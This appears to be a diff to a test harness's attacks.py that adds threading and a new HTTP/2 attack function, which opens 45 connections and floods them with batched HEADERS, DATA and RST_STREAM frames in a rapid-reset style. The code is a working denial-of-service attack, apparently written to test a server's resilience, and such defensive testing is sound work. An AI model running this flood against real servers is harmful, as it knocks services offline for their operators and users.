@@ -4,7 +4,7 @@ and returns the connections that it still holds; at says what the listener is (c
     attacks.py NAME HOST:PORT SECONDS [PATH [KEY]]    # runs one alone
     attacks.py sink HOST:PORT SECONDS                 # takes and drops what others send
 """
-import gzip, os, selectors, socket, struct, sys, time
+import gzip, os, selectors, socket, struct, sys, threading, time
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "cluster"))
 sys.path.insert(0, os.path.dirname(__file__))
 import h2
@@ -235,6 +235,32 @@ def rapid_resets(address, until, at):
             conn.next += 2
         conn.send(out)
     return busy(address, until, write)
+
+
+@attack(HTTP2)
+def resets_with_requests_on_connections_made_before(address, until, at):
+    """Each call has a message, and nothing that was noticed on one connection keeps the others out."""
+    conns = [h2.Connection(address) for _ in range(45)]
+    time.sleep(1.2)
+    fields, reset, least = h2.call_fields(at.path), struct.pack(">I", 8), time.monotonic() + 2
+
+    def flood(mine):
+        for conn in mine:
+            while not conn.is_over and (time.monotonic() < least or not until()):
+                out = b""
+                for _ in range(100):
+                    out += h2.frame(h2.HEADERS, h2.END_HEADERS, conn.next, fields)
+                    out += h2.frame(h2.DATA, h2.END_STREAM, conn.next, h2.message(b""))
+                    out += h2.frame(h2.RST_STREAM, 0, conn.next, reset)
+                    conn.next += 2
+                if not conn.send(out):
+                    break
+    threads = [threading.Thread(target=flood, args=(conns[i::3],)) for i in range(3)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    return conns
 
 
 @attack(HTTP2)
